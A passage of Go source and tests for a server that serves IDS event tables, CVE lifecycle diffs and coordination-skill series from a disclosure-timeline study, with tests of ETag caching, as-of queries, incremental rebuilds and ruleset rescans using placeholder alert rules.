	etag := responseETag(gen, key)
	if notModified(r, etag) {
		s.hits.Add(1)
		w.Header().Set("ETag", etag)
		w.Header().Set("X-Store-Generation", strconv.FormatUint(gen, 10))
		w.WriteHeader(http.StatusNotModified)
		return
	}
	body, ctype, hit, err := s.cachedBody(gen, key, build)
	if hit {
		s.hits.Add(1)
	} else {
		s.misses.Add(1)
	}
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	s.write(w, gen, etag, body, ctype)
}

// handleDiff serves the lifecycle delta between two as-of cuts: which CVEs
// appeared, which lifecycle events (V F D P X A) were learned or revised, and
// how attributed event volume grew from ?from= to ?to=.
func (s *Server) handleDiff(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	from, err := parseDateParam(q.Get("from"))
	if err != nil || from.IsZero() {
		http.Error(w, "diff wants from=DATE (RFC 3339 or YYYY-MM-DD)", http.StatusBadRequest)
		return
	}
	to, err := parseDateParam(q.Get("to"))
	if err != nil || to.IsZero() {
		http.Error(w, "diff wants to=DATE (RFC 3339 or YYYY-MM-DD)", http.StatusBadRequest)
		return
	}
	if to.Before(from) {
		http.Error(w, "diff range is inverted: to precedes from", http.StatusBadRequest)
		return
	}
	key := "diff?from=" + from.UTC().Format(time.RFC3339Nano) + "&to=" + to.UTC().Format(time.RFC3339Nano)
	s.serveTimeline(w, r, key, func() ([]byte, string, error) {
		vf, err := s.cfg.Timeline.AsOf(from)
		if err != nil {
			return nil, "", err
		}
		vt, err := s.cfg.Timeline.AsOf(to)
		if err != nil {
			return nil, "", err
		}
		out := struct {
			Generation uint64             `json:"generation"`
			From       time.Time          `json:"from"`
			To         time.Time          `json:"to"`
			CVEs       []timeline.CVEDiff `json:"cves"`
		}{
			Generation: s.cfg.Store.Generation(),
			From:       from.UTC(), To: to.UTC(),
			CVEs: timeline.DiffTimelines(vf.Timelines(), vt.Timelines()),
		}
		if out.CVEs == nil {
			out.CVEs = []timeline.CVEDiff{}
		}
		body, err := json.Marshal(out)
		return body, "application/json", err
	})
}

// handleSkill serves the coordination-skill score sampled over time: one
// as-of evaluation of the paper's disclosure desiderata per step from ?from=
// to ?to= (step_days, default 30).
func (s *Server) handleSkill(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	from, err := parseDateParam(q.Get("from"))
	if err != nil || from.IsZero() {
		http.Error(w, "skill wants from=DATE (RFC 3339 or YYYY-MM-DD)", http.StatusBadRequest)
		return
	}
	to, err := parseDateParam(q.Get("to"))
	if err != nil || to.IsZero() {
		http.Error(w, "skill wants to=DATE (RFC 3339 or YYYY-MM-DD)", http.StatusBadRequest)
		return
	}
	if to.Before(from) {
		http.Error(w, "skill range is inverted: to precedes from", http.StatusBadRequest)
		return
	}
	stepDays := 30
	if v := q.Get("step_days"); v != "" {
		stepDays, err = strconv.Atoi(v)
		if err != nil || stepDays <= 0 {
			http.Error(w, "bad step_days: want a positive integer", http.StatusBadRequest)
			return
		}
	}
	key := fmt.Sprintf("skill?from=%s&to=%s&step_days=%d",
		from.UTC().Format(time.RFC3339Nano), to.UTC().Format(time.RFC3339Nano), stepDays)
	s.serveTimeline(w, r, key, func() ([]byte, string, error) {
		pts, err := s.cfg.Timeline.SkillSeries(from, to, time.Duration(stepDays)*24*time.Hour)
		if err != nil {
			return nil, "", err
		}
		out := struct {
			Generation uint64                `json:"generation"`
			StepDays   int                   `json:"step_days"`
			Points     []timeline.SkillPoint `json:"points"`
		}{Generation: s.cfg.Store.Generation(), StepDays: stepDays, Points: pts}
		if out.Points == nil {
			out.Points = []timeline.SkillPoint{}
		}
		body, err := json.Marshal(out)
		return body, "application/json", err
	})
}
