package serve

import (
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/wayback"
)

// newBenchFixture builds a seed-1 study at the given scale, a store holding
// its full event set, and a server over both — the same shape the daemon
// runs. Remember Scale divides the paper's event volumes, so scale 2 is a
// 25x larger corpus than the test-default 50.
func newBenchFixture(b *testing.B, scale int) (*wayback.Study, *eventstore.Store, *Server, *wayback.Results) {
	b.Helper()
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, Scale: scale, PipelineTimelines: true})
	if err != nil {
		b.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		b.Fatal(err)
	}
	store, err := wayback.OpenStore(b.TempDir())
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { store.Close() })
	if err := store.AppendBatch(batch.Events); err != nil {
		b.Fatal(err)
	}
	srv, err := New(Config{Study: study, Store: store})
	if err != nil {
		b.Fatal(err)
	}
	return study, store, srv, batch
}

func benchGet(b *testing.B, h http.Handler, path string) {
	b.Helper()
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
	if rec.Code != http.StatusOK {
		b.Fatalf("GET %s: %d: %s", path, rec.Code, rec.Body.String())
	}
}

// BenchmarkServeRead is the steady-state read: a cache-hit GET of Table 4
// through the full handler stack (mux, latency instrumentation, ETag,
// generation check). This is the p99 floor the load rig's SLO sits on.
func BenchmarkServeRead(b *testing.B) {
	_, _, srv, _ := newBenchFixture(b, 50)
	h := srv.Handler()
	benchGet(b, h, "/v1/tables/4") // prime the generation cache
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		benchGet(b, h, "/v1/tables/4")
	}
}

// BenchmarkGenerationBump measures the cost of the first read after an
// append invalidates every cached body. The incremental path folds only the
// new event into the running aggregates; the cold path is what every such
// read cost before: a full replay of the store. The ratio between the two is
// the quantity under test — both sides are recorded in BENCH_analysis.json.
func BenchmarkGenerationBump(b *testing.B) {
	b.Run("incremental", func(b *testing.B) {
		_, store, srv, batch := newBenchFixture(b, 2)
		h := srv.Handler()
		benchGet(b, h, "/v1/tables/4") // initial build
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			ev := batch.Events[i%len(batch.Events)]
			ev.Time = ev.Time.Add(time.Duration(i+1) * time.Millisecond)
			if err := store.AppendBatch([]ids.Event{ev}); err != nil {
				b.Fatal(err)
			}
			benchGet(b, h, "/v1/tables/4")
		}
	})
	b.Run("cold", func(b *testing.B) {
		study, store, _, batch := newBenchFixture(b, 2)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			ev := batch.Events[i%len(batch.Events)]
			ev.Time = ev.Time.Add(time.Duration(i+1) * time.Millisecond)
			if err := store.AppendBatch([]ids.Event{ev}); err != nil {
				b.Fatal(err)
			}
			res, _ := study.ResultsFromStore(store)
			if res.Table4().String() == "" {
				b.Fatal("empty table")
			}
		}
	})
}
