package serve

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/registry"
	"repro/internal/rules"
	"repro/internal/tcpasm"
	"repro/internal/timeline"
	"repro/wayback"
)

// TestRulesetRescanMovesDiff is the issue's end-to-end re-attribution check
// over HTTP: publish a rule with an earlier publication date after ingest,
// run the rescan, and /v1/diff across the study window shows the letters
// moving — the re-labeled CVE appears with its lifecycle events, the
// original label vanishes.
func TestRulesetRescanMovesDiff(t *testing.T) {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	store, err := wayback.OpenStore(filepath.Join(dir, "store"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	reg, err := registry.Open(registry.Config{Dir: filepath.Join(dir, "rules")})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { reg.Close() })

	// Generation 1: one rule, dated late in the study.
	if _, err := reg.Publish(datedDelta(t,
		`alert tcp any any -> any any (msg:"a"; content:"alpha-token"; reference:cve,2022-5000; sid:800001; rev:1;)`,
		time.Date(2022, 6, 1, 0, 0, 0, 0, time.UTC))); err != nil {
		t.Fatal(err)
	}

	// Two ingested sessions: one matched under gen 1, one unmatched.
	t1 := time.Date(2022, 3, 10, 0, 0, 0, 0, time.UTC)
	t2 := t1.Add(time.Hour)
	mk := func(port uint16, start time.Time, data string) tcpasm.Session {
		return tcpasm.Session{
			Client:     packet.Endpoint{Addr: packet.MustAddr("203.0.113.7"), Port: port},
			Server:     packet.Endpoint{Addr: packet.MustAddr("18.204.7.9"), Port: 80},
			Start:      start,
			ClientData: []byte(data),
			Complete:   true,
		}
	}
	s1 := mk(40001, t1, "GET /alpha-token HTTP/1.1\r\n\r\n")
	s2 := mk(40002, t2, "GET /beta-token HTTP/1.1\r\n\r\n")
	ev, ok := ids.MatchSession(&s1, reg.Engine())
	if !ok {
		t.Fatal("s1 must match the gen-1 rule")
	}
	if err := store.AppendBatch([]ids.Event{ev}); err != nil {
		t.Fatal(err)
	}
	if err := store.Commit(nil); err != nil {
		t.Fatal(err)
	}
	if err := reg.RecordDigests([]registry.Digest{
		registry.DigestOf(&s1, &ev, 0),
		registry.DigestOf(&s2, nil, 0),
	}); err != nil {
		t.Fatal(err)
	}

	tl, err := timeline.Open(timeline.Config{Dir: filepath.Join(dir, "tl"), Store: store})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tl.Seal(); err != nil {
		t.Fatal(err)
	}
	srv, err := New(Config{Study: study, Store: store, Timeline: tl, Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	do := func(method, path, body string) *httptest.ResponseRecorder {
		t.Helper()
		rec := httptest.NewRecorder()
		req := httptest.NewRequest(method, path, strings.NewReader(body))
		srv.Handler().ServeHTTP(rec, req)
		if rec.Code != http.StatusOK {
			t.Fatalf("%s %s: %d: %s", method, path, rec.Code, rec.Body.String())
		}
		return rec
	}
	type diffResp struct {
		CVEs []timeline.CVEDiff `json:"cves"`
	}
	getDiff := func() map[string]timeline.CVEDiff {
		t.Helper()
		var resp diffResp
		rec := do("GET", "/v1/diff?from=2022-01-01&to=2022-12-31", "")
		if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
			t.Fatal(err)
		}
		out := map[string]timeline.CVEDiff{}
		for _, d := range resp.CVEs {
			out[d.CVE] = d
		}
		return out
	}

	before := getDiff()
	if d, ok := before["2022-5000"]; !ok || !d.New || d.EventsTo != 1 {
		t.Fatalf("baseline diff: %+v", before)
	}

	// Generation 2, published over HTTP: an earlier-dated signature for the
	// matched session, and a first signature for the unmatched one.
	delta := "# published: 2021-09-01T00:00:00Z\n" +
		`alert tcp any any -> any any (msg:"early"; content:"alpha-token"; reference:cve,2021-7000; sid:800002; rev:1;)` + "\n" +
		"# published: 2021-10-01T00:00:00Z\n" +
		`alert tcp any any -> any any (msg:"late sig"; content:"beta-token"; reference:cve,2021-8000; sid:800003; rev:1;)` + "\n"
	do("POST", "/v1/ruleset", delta)
	rec := do("POST", "/v1/ruleset/rescan", "")
	var stats struct {
		Digests   int `json:"digests"`
		Amended   int `json:"amended"`
		Additions int `json:"additions"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &stats); err != nil {
		t.Fatal(err)
	}
	if stats.Digests != 2 || stats.Amended != 2 || stats.Additions != 1 {
		t.Fatalf("rescan stats: %+v", stats)
	}

	after := getDiff()
	if _, ok := after["2022-5000"]; ok {
		t.Fatalf("original label survived the rescan: %+v", after["2022-5000"])
	}
	letters := func(d timeline.CVEDiff) map[string]bool {
		m := map[string]bool{}
		for _, c := range d.Changed {
			m[c.Letter] = true
		}
		return m
	}
	d, ok := after["2021-7000"]
	if !ok || !d.New || d.EventsTo != 1 || !letters(d)["A"] {
		t.Fatalf("re-labeled CVE diff: %+v (present %v)", d, ok)
	}
	d, ok = after["2021-8000"]
	if !ok || !d.New || d.EventsTo != 1 || !letters(d)["A"] {
		t.Fatalf("added CVE diff: %+v (present %v)", d, ok)
	}

	// The amendment gauges moved with the rescan.
	metrics := do("GET", "/metrics", "").Body.String()
	for _, want := range []string{
		"waybackd_store_amendment_records 2",
		"waybackd_store_amended_sessions 2",
		"waybackd_ruleset_rescan_done 2",
	} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics missing %q", want)
		}
	}
}

// datedDelta parses one rule text into a single-rule dated delta.
func datedDelta(t *testing.T, raw string, pub time.Time) []rules.DatedRule {
	t.Helper()
	r, err := rules.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return []rules.DatedRule{{Rule: r, Published: pub}}
}
