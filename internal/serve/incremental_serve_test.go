package serve

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/wayback"
)

// incFixture is a serve fixture that keeps the concrete store handle, so
// tests can append amendments (not just events) and drive generation bumps
// the way a registry rescan would.
type incFixture struct {
	*fixture
	est *eventstore.Store
}

// newIncFixture builds a server over an initially empty store; tests append
// batches themselves to walk the generations.
func newIncFixture(t *testing.T) *incFixture {
	t.Helper()
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	store, err := wayback.OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	srv, err := New(Config{Study: study, Store: store})
	if err != nil {
		t.Fatal(err)
	}
	return &incFixture{
		fixture: &fixture{study: study, batch: batch, srv: srv, store: store},
		est:     store,
	}
}

func getBody(t *testing.T, srv *Server, path string) string {
	t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	rec := httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	if rec.Code != http.StatusOK {
		t.Fatalf("GET %s: %d: %s", path, rec.Code, rec.Body.String())
	}
	return rec.Body.String()
}

// relabelAmendment builds an amendment re-attributing the first event of the
// current snapshot to some other CVE present in the event set.
func relabelAmendment(t *testing.T, est *eventstore.Store, gen uint64) eventstore.Amendment {
	t.Helper()
	sn := est.Snapshot()
	events := sn.Events()
	if len(events) == 0 {
		t.Fatal("empty store")
	}
	orig := events[0]
	relabeled := orig
	for i := range events {
		if cve := events[i].CVE; cve != "" && cve != orig.CVE {
			relabeled.CVE = cve
			break
		}
	}
	if relabeled.CVE == orig.CVE {
		t.Fatal("no second CVE to re-label with")
	}
	return eventstore.Amendment{Event: relabeled, OrigSID: orig.SID, OrigCVE: orig.CVE, Gen: gen}
}

// TestServeParityAcrossGenerations proves the long-lived server — whose
// Results are maintained as folds — answers byte-for-byte like a server built
// fresh at each generation, through multi-batch ingest and an amendment-driven
// fallback rebuild. The endpoints chosen cover each derived surface: Table 4
// (lifecycle stats), Table 5 (lazy raw-event materialization), Figure 3
// (histograms), Figure 7 (ECDFs).
func TestServeParityAcrossGenerations(t *testing.T) {
	f := newIncFixture(t)
	paths := []string{"/v1/tables/4", "/v1/tables/5", "/v1/figures/3", "/v1/figures/7"}
	check := func(step string) {
		t.Helper()
		fresh, err := New(Config{Study: f.study, Store: f.est})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range paths {
			if got, want := getBody(t, f.srv, p), getBody(t, fresh, p); got != want {
				t.Fatalf("%s: %s diverged from a fresh server:\n%s", step, p, got)
			}
		}
	}

	events := f.batch.Events
	cuts := []int{len(events) / 4, len(events) / 2, len(events)}
	prev := 0
	for _, cut := range cuts {
		if err := f.est.AppendBatch(events[prev:cut]); err != nil {
			t.Fatal(err)
		}
		prev = cut
		check("batch")
	}
	m := f.srv.inc.Metrics()
	if m.Rebuilds != 1 {
		t.Fatalf("long-lived server rebuilt %d times during pure appends, want 1", m.Rebuilds)
	}

	// Cross-check against the batch-study cold path too, not just another
	// server instance.
	cold, _ := f.study.ResultsFromStore(f.est)
	if got, want := getBody(t, f.srv, "/v1/tables/4"), cold.Table4().String(); got != want {
		t.Fatalf("Table 4 diverged from ResultsFromStore:\n%s", got)
	}

	if err := f.est.AppendAmendments([]eventstore.Amendment{relabelAmendment(t, f.est, 1)}); err != nil {
		t.Fatal(err)
	}
	check("amendment")
	if got := f.srv.inc.Metrics().Rebuilds; got != 2 {
		t.Fatalf("amendment caused %d rebuilds, want 2", got)
	}

	// The fold/rebuild meters are on /metrics for operators.
	metrics := f.getOK(t, "/metrics").Body.String()
	for _, want := range []string{
		"waybackd_results_rebuilds_total 2",
		"waybackd_results_folds_total ",
		"waybackd_results_folded_events_total ",
	} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics missing %q", want)
		}
	}
}

// TestSingleflightBurst sends concurrent bursts at a cold cache and proves
// the body is built exactly once per generation: one miss leads the build,
// every other request coalesces onto it (counted as hits), and the
// incremental view recomputes exactly once.
func TestSingleflightBurst(t *testing.T) {
	f := newIncFixture(t)
	if err := f.est.AppendBatch(f.batch.Events); err != nil {
		t.Fatal(err)
	}
	const clients = 16
	burst := func() {
		t.Helper()
		var wg sync.WaitGroup
		bodies := make([]string, clients)
		wg.Add(clients)
		for i := 0; i < clients; i++ {
			go func(i int) {
				defer wg.Done()
				req := httptest.NewRequest("GET", "/v1/tables/4", nil)
				rec := httptest.NewRecorder()
				f.srv.Handler().ServeHTTP(rec, req)
				if rec.Code == http.StatusOK {
					bodies[i] = rec.Body.String()
				}
			}(i)
		}
		wg.Wait()
		for i := 1; i < clients; i++ {
			if bodies[i] != bodies[0] || bodies[i] == "" {
				t.Fatalf("burst bodies diverged (client %d)", i)
			}
		}
	}

	burst()
	hits, misses := f.srv.CacheStats()
	if misses != 1 {
		t.Fatalf("cold burst built the body %d times, want exactly 1", misses)
	}
	if hits != clients-1 {
		t.Fatalf("cold burst: %d hits, want %d coalesced/cached", hits, clients-1)
	}
	if m := f.srv.inc.Metrics(); m.Rebuilds != 1 {
		t.Fatalf("cold burst recomputed Results %d times, want 1", m.Rebuilds)
	}

	// Bump the generation; the next burst must rebuild the body exactly once
	// and absorb the new event as exactly one fold.
	if err := f.est.AppendBatch([]ids.Event{{SID: 999999, Msg: "unattributed", Time: time.Now().UTC()}}); err != nil {
		t.Fatal(err)
	}
	burst()
	_, misses2 := f.srv.CacheStats()
	if misses2 != 2 {
		t.Fatalf("post-append burst: %d total misses, want 2 (one build per generation)", misses2)
	}
	m := f.srv.inc.Metrics()
	if m.Rebuilds != 1 || m.Folds != 1 {
		t.Fatalf("post-append burst: rebuilds %d folds %d, want 1 and 1", m.Rebuilds, m.Folds)
	}
}

// TestConditionalAfterAmendment: a poller holding a pre-amendment ETag must
// get 200 with a fresh validator once an amendment bumps the generation —
// never a stale 304 — on both the live and the ?asof= form of an endpoint.
func TestConditionalAfterAmendment(t *testing.T) {
	f := newAsofFixture(t)
	asofPath := "/v1/tables/4?asof=" + f.end.UTC().Format("2006-01-02T15:04:05Z")
	paths := []string{"/v1/tables/4", asofPath}

	etags := make(map[string]string)
	for _, p := range paths {
		rec := f.getOK(t, p)
		etag := rec.Header().Get("ETag")
		if etag == "" {
			t.Fatalf("%s: no ETag", p)
		}
		etags[p] = etag
		// While the store is quiet the validator matches: 304, empty body.
		cond := f.getIfNoneMatch(t, p, etag)
		if cond.Code != http.StatusNotModified || cond.Body.Len() != 0 {
			t.Fatalf("%s: quiet-store conditional gave %d with %d bytes", p, cond.Code, cond.Body.Len())
		}
	}

	if err := f.est.AppendAmendments([]eventstore.Amendment{relabelAmendment(t, f.est, 1)}); err != nil {
		t.Fatal(err)
	}

	for _, p := range paths {
		rec := f.getIfNoneMatch(t, p, etags[p])
		if rec.Code != http.StatusOK {
			t.Fatalf("%s: post-amendment conditional gave %d, want 200: %s", p, rec.Code, rec.Body.String())
		}
		if got := rec.Header().Get("ETag"); got == etags[p] || got == "" {
			t.Fatalf("%s: ETag did not move across the amendment (still %q)", p, got)
		}
		if rec.Body.Len() == 0 {
			t.Fatalf("%s: post-amendment 200 carried no body", p)
		}
	}
}

// TestCacheEvictionKeepsCurrent drives the response cache past its cap and
// checks the staged eviction policy: same-generation overflow (an ?asof= key
// flood) drops only the least-recently-used half, and a generation move drops
// the stale bodies first — recently hot current-generation entries are never
// wiped wholesale.
func TestCacheEvictionKeepsCurrent(t *testing.T) {
	study, err := wayback.NewStudy(wayback.Config{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	store, err := wayback.OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	srv, err := New(Config{Study: study, Store: store})
	if err != nil {
		t.Fatal(err)
	}
	put := func(gen uint64, key string) (hit bool) {
		t.Helper()
		_, _, hit, err := srv.cachedBody(gen, key, func() ([]byte, string, error) {
			return []byte(key), "text/plain", nil
		})
		if err != nil {
			t.Fatal(err)
		}
		return hit
	}

	// Fill to the cap at generation 1, then re-touch the upper half so it is
	// the recently-used half.
	for i := 0; i < maxCacheEntries; i++ {
		put(1, fmt.Sprintf("k%d", i))
	}
	for i := maxCacheEntries / 2; i < maxCacheEntries; i++ {
		if !put(1, fmt.Sprintf("k%d", i)) {
			t.Fatalf("k%d fell out of a full, unevicted cache", i)
		}
	}

	// Same-generation overflow: only the cold half goes.
	put(1, "overflow")
	if !put(1, fmt.Sprintf("k%d", maxCacheEntries-1)) {
		t.Fatal("recently-used entry was evicted by same-generation overflow")
	}
	if put(1, "k0") {
		t.Fatal("least-recently-used entry survived same-generation overflow")
	}

	// Refill to the cap, then move the generation: stale bodies are dropped
	// first and the new-generation entry lives alone.
	for i := 0; i < maxCacheEntries; i++ {
		put(1, fmt.Sprintf("k%d", i))
	}
	put(2, "fresh")
	srv.cacheMu.Lock()
	for k, e := range srv.cache {
		if e.gen != 2 {
			srv.cacheMu.Unlock()
			t.Fatalf("stale-generation entry %q (gen %d) survived a generation move", k, e.gen)
		}
	}
	n := len(srv.cache)
	srv.cacheMu.Unlock()
	if n != 1 {
		t.Fatalf("cache holds %d entries after the generation move, want 1", n)
	}
	if !put(2, "fresh") {
		t.Fatal("current-generation entry was evicted")
	}
}
