package serve

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"sort"
	"strings"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/timeline"
	"repro/wayback"
)

type asofFixture struct {
	*fixture
	est *eventstore.Store
	eng *timeline.Engine
	cut time.Time // median event time: a mid-study as-of instant
	end time.Time // past the last event: an as-of instant covering everything
}

func newAsofFixture(t *testing.T) *asofFixture {
	t.Helper()
	study, err := wayback.NewStudy(wayback.Config{Seed: 1, PipelineTimelines: true})
	if err != nil {
		t.Fatal(err)
	}
	batch, err := study.Run()
	if err != nil {
		t.Fatal(err)
	}
	store, err := wayback.OpenStore(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	if err := store.AppendBatch(batch.Events); err != nil {
		t.Fatal(err)
	}
	if err := store.Commit(nil); err != nil {
		t.Fatal(err)
	}
	eng, err := study.OpenTimeline(t.TempDir(), store, timeline.Config{CheckpointEvery: 1})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := eng.Seal(); err != nil {
		t.Fatal(err)
	}
	srv, err := New(Config{Study: study, Store: store, Timeline: eng})
	if err != nil {
		t.Fatal(err)
	}

	times := make([]time.Time, len(batch.Events))
	for i := range batch.Events {
		times[i] = batch.Events[i].Time
	}
	sort.Slice(times, func(i, j int) bool { return times[i].Before(times[j]) })
	return &asofFixture{
		fixture: &fixture{study: study, batch: batch, srv: srv, store: store},
		est:     store,
		eng:     eng,
		cut:     times[len(times)/2],
		end:     times[len(times)-1].Add(time.Hour),
	}
}

// getIfNoneMatch issues a conditional GET with the given validator.
func (f *asofFixture) getIfNoneMatch(t *testing.T, path, etag string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	req.Header.Set("If-None-Match", etag)
	rec := httptest.NewRecorder()
	f.srv.Handler().ServeHTTP(rec, req)
	return rec
}

func eventsUpTo(events []ids.Event, t time.Time) []ids.Event {
	var out []ids.Event
	for _, ev := range events {
		if !ev.Time.After(t) {
			out = append(out, ev)
		}
	}
	return out
}

// TestAsOfEndpoints: ?asof= answers from tables and figures must equal the
// batch pipeline run over only the events at or before the cut.
func TestAsOfEndpoints(t *testing.T) {
	f := newAsofFixture(t)
	mid := f.study.ResultsFromEvents(eventsUpTo(f.batch.Events, f.cut))

	q := "?asof=" + f.cut.UTC().Format(time.RFC3339Nano)
	if got, want := f.getOK(t, "/v1/tables/4"+q).Body.String(), mid.Table4().String(); got != want {
		t.Errorf("as-of Table 4 differs from the batch run over the cut events:\n%s", got)
	}
	wantFig, _, err := histogramCSV("figure3", "days-into-study", mid.Figure3())
	if err != nil {
		t.Fatal(err)
	}
	if got := f.getOK(t, "/v1/figures/3"+q).Body.String(); got != string(wantFig) {
		t.Errorf("as-of Figure 3 differs from the batch run over the cut events:\n%s", got)
	}

	// An as-of instant past every event answers exactly like the live view.
	live := f.getOK(t, "/v1/tables/4").Body.String()
	endQ := "?asof=" + f.end.UTC().Format(time.RFC3339Nano)
	if got := f.getOK(t, "/v1/tables/4"+endQ).Body.String(); got != live {
		t.Errorf("as-of past the last event differs from the live table:\n%s", got)
	}

	// Date-only form parses; malformed dates are a 400.
	f.getOK(t, "/v1/tables/4?asof="+f.cut.UTC().Format("2006-01-02"))
	if rec := f.get(t, "/v1/tables/4?asof=yesterday"); rec.Code != http.StatusBadRequest {
		t.Errorf("bad asof gave %d, want 400", rec.Code)
	}
}

// TestAsOfDisabled: without a timeline engine, ?asof= and the diff/skill
// endpoints answer 404, and plain queries still work.
func TestAsOfDisabled(t *testing.T) {
	f := newFixture(t)
	f.getOK(t, "/v1/tables/4")
	for _, path := range []string{
		"/v1/tables/4?asof=2022-01-01",
		"/v1/diff?from=2022-01-01&to=2022-06-01",
		"/v1/skill?from=2022-01-01&to=2022-06-01",
	} {
		if rec := f.get(t, path); rec.Code != http.StatusNotFound {
			t.Errorf("GET %s without a timeline gave %d, want 404", path, rec.Code)
		}
	}
}

// TestETag: responses carry a strong ETag; If-None-Match answers 304 with no
// body; the tag moves with the generation and with the as-of date.
func TestETag(t *testing.T) {
	f := newAsofFixture(t)
	rec := f.getOK(t, "/v1/tables/4")
	etag := rec.Header().Get("ETag")
	if etag == "" {
		t.Fatal("no ETag on a table response")
	}

	rec2 := f.getIfNoneMatch(t, "/v1/tables/4", etag)
	if rec2.Code != http.StatusNotModified {
		t.Fatalf("If-None-Match with the current tag gave %d, want 304", rec2.Code)
	}
	if rec2.Body.Len() != 0 {
		t.Errorf("304 carried a %d-byte body", rec2.Body.Len())
	}
	if got := rec2.Header().Get("ETag"); got != etag {
		t.Errorf("304 ETag %q, want %q", got, etag)
	}

	// A different as-of date is a different resource: different tag, no 304.
	q := "?asof=" + f.cut.UTC().Format(time.RFC3339Nano)
	asofTag := f.getOK(t, "/v1/tables/4"+q).Header().Get("ETag")
	if asofTag == "" || asofTag == etag {
		t.Fatalf("as-of ETag %q should differ from the live tag %q", asofTag, etag)
	}
	if rec := f.getIfNoneMatch(t, "/v1/tables/4"+q, etag); rec.Code == http.StatusNotModified {
		t.Error("live ETag validated an as-of response")
	}

	// New events bump the generation; the old tag stops validating.
	extra := f.batch.Events[:1]
	if err := f.est.AppendBatch(extra); err != nil {
		t.Fatal(err)
	}
	if err := f.est.Commit(nil); err != nil {
		t.Fatal(err)
	}
	rec3 := f.getIfNoneMatch(t, "/v1/tables/4", etag)
	if rec3.Code != http.StatusOK {
		t.Fatalf("stale ETag after an append gave %d, want 200", rec3.Code)
	}
	if got := rec3.Header().Get("ETag"); got == etag {
		t.Error("ETag did not move with the store generation")
	}
}

// TestDiffEndpoint: /v1/diff reports per-CVE lifecycle movement between two
// cuts, and validates its parameters.
func TestDiffEndpoint(t *testing.T) {
	f := newAsofFixture(t)
	from := f.cut.UTC().Format(time.RFC3339Nano)
	to := f.end.UTC().Format(time.RFC3339Nano)
	rec := f.getOK(t, "/v1/diff?from="+from+"&to="+to)
	var out struct {
		Generation uint64             `json:"generation"`
		CVEs       []timeline.CVEDiff `json:"cves"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if len(out.CVEs) == 0 {
		t.Fatal("diff across half the study reported no changes")
	}
	for _, d := range out.CVEs {
		if d.EventsTo < d.EventsFrom {
			t.Errorf("CVE-%s: event count shrank %d -> %d", d.CVE, d.EventsFrom, d.EventsTo)
		}
		if d.New && d.EventsFrom != 0 {
			t.Errorf("CVE-%s: marked new but had %d events at the from cut", d.CVE, d.EventsFrom)
		}
	}

	// A self-diff is empty, not an error.
	rec = f.getOK(t, "/v1/diff?from="+from+"&to="+from)
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if len(out.CVEs) != 0 {
		t.Errorf("self-diff reported %d changed CVEs", len(out.CVEs))
	}

	for _, path := range []string{
		"/v1/diff?to=" + to,                   // missing from
		"/v1/diff?from=" + from,               // missing to
		"/v1/diff?from=" + to + "&to=" + from, // inverted
		"/v1/diff?from=nope&to=" + to,         // malformed
	} {
		if rec := f.get(t, path); rec.Code != http.StatusBadRequest {
			t.Errorf("GET %s gave %d, want 400", path, rec.Code)
		}
	}
}

// TestSkillEndpoint: /v1/skill samples the coordination-skill series; event
// coverage is monotone in time.
func TestSkillEndpoint(t *testing.T) {
	f := newAsofFixture(t)
	from := f.cut.UTC().Format(time.RFC3339Nano)
	to := f.end.UTC().Format(time.RFC3339Nano)
	rec := f.getOK(t, "/v1/skill?from="+from+"&to="+to+"&step_days=30")
	var out struct {
		StepDays int                   `json:"step_days"`
		Points   []timeline.SkillPoint `json:"points"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	if out.StepDays != 30 {
		t.Errorf("step_days echoed as %d", out.StepDays)
	}
